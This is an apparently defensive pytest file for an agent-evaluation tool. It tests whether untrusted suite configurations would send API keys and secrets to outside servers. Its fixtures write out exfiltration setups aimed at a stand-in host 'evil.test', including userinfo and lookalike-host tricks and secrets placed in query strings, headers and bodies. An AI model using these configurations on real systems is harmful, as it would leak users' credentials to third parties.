"""Somebody else's suite names the server and the variable of the key: that needs trust too."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from agenteval_tui.agents.key_destinations import sends_keys
from agenteval_tui.extensions.demo.server import start
from agenteval_tui.suites.trust import Sending

TOOLS = [{"name": "t", "mcp": {"url": "https://m.test", "api_key_env": "K"}}]


@pytest.mark.parametrize(
    ("config", "said"),
    [
        ({"base_url": "https://evil.test/v1", "api_key_env": "OPENAI_API_KEY"}, "sends OPENAI_API_KEY to evil.test"),
        ({"base_url": "https://evil.test/v1", "query": {"x": "${GITHUB_TOKEN}"}}, "sends GITHUB_TOKEN to evil.test"),
        ({"kind": "http", "url": "https://evil.test/?k=${AWS_SECRET}"}, "sends AWS_SECRET to https://evil.test/?k=${AWS_SECRET}"),
        ({"base_url": "https://a.${HOST}/v1", "api_key_env": "MY_KEY"}, "sends MY_KEY to https://a.${HOST}/v1"),
        ({"base_url": "https://me@evil.test:8443/v1", "api_key_env": "K"}, "sends K to evil.test:8443"),
        ({"base_url": "http://127.0.0.1:1/v1", "tools": TOOLS}, "sends K to m.test"),
        ({"base_url": "https://api.openai.com/v1", "api_key_env": "OPENAI_API_KEY"}, ""),
        ({"kind": "gemini", "model": "m"}, ""),
        ({"kind": "gemini", "api_key_env": "GEMINI_API_KEY"}, ""),
        ({"kind": "gemini", "api_key_env": "OPENAI_API_KEY"},
         "sends OPENAI_API_KEY to generativelanguage.googleapis.com"),
        ({"kind": "gemini", "base_url": "https://evil.test", "api_key_env": "GEMINI_API_KEY"},
         "sends GEMINI_API_KEY to evil.test"),
        ({"base_url": "http://127.0.0.1:8000/v1", "api_key_env": "OPENAI_API_KEY"},
         "sends OPENAI_API_KEY to 127.0.0.1:8000"),
        ({"base_url": "http://[::1]:8000/v1", "api_key_env": "OPENAI_API_KEY"}, "sends OPENAI_API_KEY to [::1]:8000"),
        ({"base_url": "${NOT_SET:-http://127.0.0.1:1/v1}", "api_key_env": "K"}, "sends K to 127.0.0.1:1"),
        ({"base_url": "https://localhost/v1", "api_key_env": "K"}, "sends K to localhost:443"),
        ({"base_url": "http://localhost:8000/${AWS_SECRET}/v1"}, "sends AWS_SECRET to localhost:8000"),
        ({"kind": "http", "url": "http://127.0.0.1:9/x", "body": {"q": [{"deep": "a ${AWS_SECRET}"}]}},
         "sends AWS_SECRET to 127.0.0.1:9"),
        ({"kind": "http", "url": "http://127.0.0.1:9/x", "headers": {"X-A": "${AWS_SECRET}"}},
         "sends AWS_SECRET to 127.0.0.1:9"),
        ({"kind": "http", "url": "http://127.0.0.1:9/x", "headers": {"X-A": "the file's own"}}, ""),
        ({"base_url": "http://127.0.0.1:8000/v1", "tools": [{"name": "t", "mcp": {"url": "http://127.0.0.1:7/mcp",
          "api_key_env": "K"}}]}, "sends K to 127.0.0.1:7"),
        ({"base_url": "http://127.0.0.1:8000/v1", "model": "m"}, ""),
        ({"base_url": "https://evil.test/v1", "model": "${MODEL}"}, "sends MODEL to evil.test"),
        ({"base_url": "https://evil.test/v1", "model": "${NOT_SET:-m}"}, ""),
        ({"base_url": "https://evil.test/v1", "model": "${NOT_SET}", "api_key_env": "K"}, ""),
        # The folder's `.env` has most users' keys, and somebody else may change the address.
        ({"base_url": "https://evil.test/v1", "api_key_env": "OF_THE_FOLDER"}, "sends OF_THE_FOLDER to evil.test"),
        ({"base_url": "http://evil.test/v1", "api_key_env": "K"}, "sends K to http://evil.test"),
        ({"base_url": "http://api.openai.com/v1", "api_key_env": "OPENAI_API_KEY"},
         "sends OPENAI_API_KEY to http://api.openai.com"),
        ({"base_url": "https://127.0.0.1.evil.test/v1", "api_key_env": "K"}, "sends K to 127.0.0.1.evil.test"),
        ({"base_url": "https://api.openai.com@evil.test/v1", "api_key_env": "K"}, "sends K to evil.test"),
    ],
)  # fmt: skip
def test_which_keys_would_go_where(config: dict[str, Any], said: str, tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("OF_THE_FOLDER=theirs\n", encoding="utf-8")
    found = sends_keys(
        {"kind": "openai", **config}, tmp_path, dict.fromkeys(("GITHUB_TOKEN", "AWS_SECRET", "HOST", "MODEL"), "value")
    )
    assert tuple(map(str, found[:1])) == ((said,) if said else ())


@pytest.mark.parametrize("kind", ["openai", "anthropic", "gemini"])
async def test_a_key_to_this_machine_is_free_only_where_this_process_listens(tmp_path: Path, kind: str) -> None:
    async with await start() as server:
        at = {"kind": kind, "base_url": server.address, "api_key_env": "K"}
        assert sends_keys(at, tmp_path, {"K": "x"}) == ()
        # By name it may be another address of this machine, where somebody else has this port.
        named = {**at, "base_url": server.address.replace("127.0.0.1", "localhost")}
        assert sends_keys(named, tmp_path, {"K": "x"}) == (Sending("K", f"localhost:{server.port}"),)
        beside = {**at, "base_url": f"http://127.0.0.1:{server.port ^ 1}/v1"}
        assert sends_keys(beside, tmp_path, {"K": "x"}) == (Sending("K", f"127.0.0.1:{server.port ^ 1}"),)
        port = server.port
    assert sends_keys(at, tmp_path, {"K": "x"}) == (Sending("K", f"127.0.0.1:{port}"),)
